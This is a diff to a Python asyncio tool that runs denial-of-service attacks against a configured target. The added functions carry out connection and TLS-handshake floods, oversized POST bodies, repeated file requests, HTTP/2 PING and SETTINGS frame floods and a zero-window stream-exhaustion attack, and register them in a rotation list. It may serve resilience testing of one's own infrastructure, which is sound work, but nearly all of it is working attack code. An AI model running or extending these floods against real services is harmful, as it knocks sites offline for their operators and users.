@@ -199,15 +199,57 @@ async def _big_headers(attack: Attack, number: int, answers: Counter[str]) -> No
     await _until_closed(reader, answers)
 
 
+async def _new_connections(attack: Attack, number: int, answers: Counter[str]) -> None:
+    """Connections that are closed as soon as they are there."""
+    source = attack.sources[number % len(attack.sources)]
+    while True:
+        _, writer = await asyncio.open_connection(attack.target.address, 443, local_addr=(source, 0))
+        writer.transport.abort()
+
+
+async def _new_sessions(attack: Attack, number: int, answers: Counter[str]) -> None:
+    """The same with a whole TLS handshake, which costs the edge more than it costs us."""
+    while True:
+        _, writer = await _open(attack, number)
+        writer.transport.abort()
+
+
+async def _large_bodies(attack: Attack, number: int, answers: Counter[str]) -> None:
+    """Bodies that an app takes, as fast as they are taken."""
+    reader, writer = await _open(attack, number)
+    head = f"POST / HTTP/1.1\r\nHost: {attack.target.name}\r\nContent-Length: 9000000\r\n\r\n"
+    writer.write(head.encode())
+
+    async def send() -> None:
+        for _ in range(90):
+            writer.write(b"x" * 100_000)
+            await writer.drain()
+        await asyncio.sleep(60)
+
+    await _both(_until_closed(reader, answers), send())
+
+
+async def _files(attack: Attack, number: int, answers: Counter[str]) -> None:
+    reader, writer = await _open(attack, number)
+    while True:
+        writer.write(f"GET {attack.target.file} HTTP/1.1\r\nHost: {attack.target.name}\r\n\r\n".encode())
+        answers[await _answer(reader)] += 1
+
+
+async def _answer(reader: asyncio.StreamReader) -> str:
+    """Read one answer; return its status."""
+    head = await reader.readuntil(b"\r\n\r\n")
+    length = next(int(line[15:]) for line in head.lower().split(b"\r\n") if line.startswith(b"content-length:"))
+    await reader.readexactly(length)
+    return head[9:12].decode()
+
+
 async def _requests(attack: Attack, number: int, answers: Counter[str]) -> None:
     reader, writer = await _open(attack, number)
     asked = f"GET / HTTP/1.1\r\nHost: {attack.target.name}\r\n\r\n".encode()
     while True:
         writer.write(asked)
-        head = await reader.readuntil(b"\r\n\r\n")
-        answers[head[9:12].decode()] += 1
-        length = next(int(line[15:]) for line in head.lower().split(b"\r\n") if line.startswith(b"content-length:"))
-        await reader.readexactly(length)
+        answers[await _answer(reader)] += 1
 
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(3) + b"\x04" + bytes(5)
@@ -253,6 +295,36 @@ async def _h2_continuations(attack: Attack, number: int, answers: Counter[str]) 
     await _both(_until_closed(reader, answers), send())
 
 
+async def _h2_frames(attack: Attack, number: int, answers: Counter[str], frame: bytes) -> None:
+    """The same small frame over and over; each asks for an answer."""
+    reader, writer = await _open(attack, number, ["h2"])
+    writer.write(PREFACE)
+
+    async def send() -> None:
+        while True:
+            writer.write(frame * FRAMES)
+            await writer.drain()
+            await asyncio.sleep(0)
+
+    await _both(_until_closed(reader, answers), send())
+
+
+async def _h2_pings(attack: Attack, number: int, answers: Counter[str]) -> None:
+    await _h2_frames(attack, number, answers, _frame(6, 0, 0, bytes(8)))
+
+
+async def _h2_settings(attack: Attack, number: int, answers: Counter[str]) -> None:
+    await _h2_frames(attack, number, answers, _frame(4, 0, 0, b""))
+
+
+async def _h2_no_window(attack: Attack, number: int, answers: Counter[str]) -> None:
+    """Answers that are asked for, and no byte of which may be sent."""
+    reader, writer = await _open(attack, number, ["h2"])
+    writer.write(PREFACE + _frame(4, 0, 0, b"\x00\x04" + bytes(4)))
+    writer.write(b"".join(_headers_frame(attack.target.name, stream) for stream in range(1, 41, 2)))
+    await _until_closed(reader, answers)
+
+
 async def _h2_streams(attack: Attack, number: int, answers: Counter[str]) -> None:
     await _h2_flood(attack, number, answers, reset=False)
 
@@ -276,18 +348,31 @@ KINDS: dict[str, Callable[[Attack, int, Counter[str]], Awaitable[None]]] = {
     "slow reads of pages": _slow_pages,
     "ranges": _ranges,
     "big headers": _big_headers,
+    "large bodies": _large_bodies,
     "request flood": _requests,
+    "file flood": _files,
+    "new connections": _new_connections,
+    "new TLS sessions": _new_sessions,
     "HTTP/2 streams": _h2_streams,
     "HTTP/2 resets": _h2_resets,
     "HTTP/2 continuations": _h2_continuations,
+    "HTTP/2 pings": _h2_pings,
+    "HTTP/2 settings": _h2_settings,
+    "HTTP/2 without a window": _h2_no_window,
 }
 AGAIN = (
     "ranges",
     "big headers",
+    "large bodies",
     "request flood",
+    "file flood",
+    "new connections",
+    "new TLS sessions",
     "HTTP/2 streams",
     "HTTP/2 resets",
     "HTTP/2 continuations",
+    "HTTP/2 pings",
+    "HTTP/2 settings",
 )  # when one ends, the next one is opened
 
 
